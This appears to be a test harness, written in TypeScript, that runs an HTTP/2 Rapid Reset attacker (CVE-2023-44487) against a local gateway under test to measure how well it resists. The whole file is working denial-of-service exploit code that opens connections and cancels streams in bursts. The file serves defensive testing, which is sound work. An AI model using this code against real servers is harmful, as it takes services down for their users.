// An HTTP/2 Rapid Reset attacker (CVE-2023-44487) in a process of its own, so the gateway under test competes
// for the CPU as it would with a real one: CONNECTIONS connections, each opening streams and resetting them at
// once in bursts, and starting a new connection after STREAMS_PER_CONNECTION streams or when the gateway sends
// it away (a client busy writing does not always notice its peer has gone). Prints one JSON line of counts.
//   node --import tsx rapid-reset-attacker.ts PORT CA_FILE DURATION_MS PATH [CONNECTIONS]
import fs from 'node:fs';
import http2 from 'node:http2';
import { setImmediate as yieldToIo } from 'node:timers/promises';

const [port, caFile, durationMs, path, connectionCount] = process.argv.slice(2);
const ca = fs.readFileSync(caFile!, 'utf8');
const until = Date.now() + Number(durationMs);
const counts = { streams: 0, connections: 0, goaways: 0 };
const STREAMS_PER_CONNECTION = 2_000;

async function attack(): Promise<void> {
  while (Date.now() < until) {
    counts.connections++;
    const session = http2.connect(`https://localhost:${port}`, { ca, host: '127.0.0.1' } as http2.SecureClientSessionOptions);
    session.on('error', () => {});
    session.on('goaway', () => counts.goaways++);
    const connected = await new Promise<boolean>((resolve) => {
      session.once('connect', () => resolve(true));
      session.once('close', () => resolve(false));
    });
    for (let sent = 0; connected && sent < STREAMS_PER_CONNECTION && Date.now() < until && !session.closed && !session.destroyed; sent += 100) {
      try {
        for (let i = 0; i < 100; i++, counts.streams++) {
          const stream = session.request({ ':path': path! });
          stream.on('error', () => {});
          stream.close(http2.constants.NGHTTP2_CANCEL);
        }
      } catch {
        break; // the gateway sent GOAWAY: the session takes no new streams
      }
      await yieldToIo();
    }
    session.destroy();
  }
}

await Promise.all(Array.from({ length: Number(connectionCount ?? 4) }, attack));
console.log(JSON.stringify(counts));
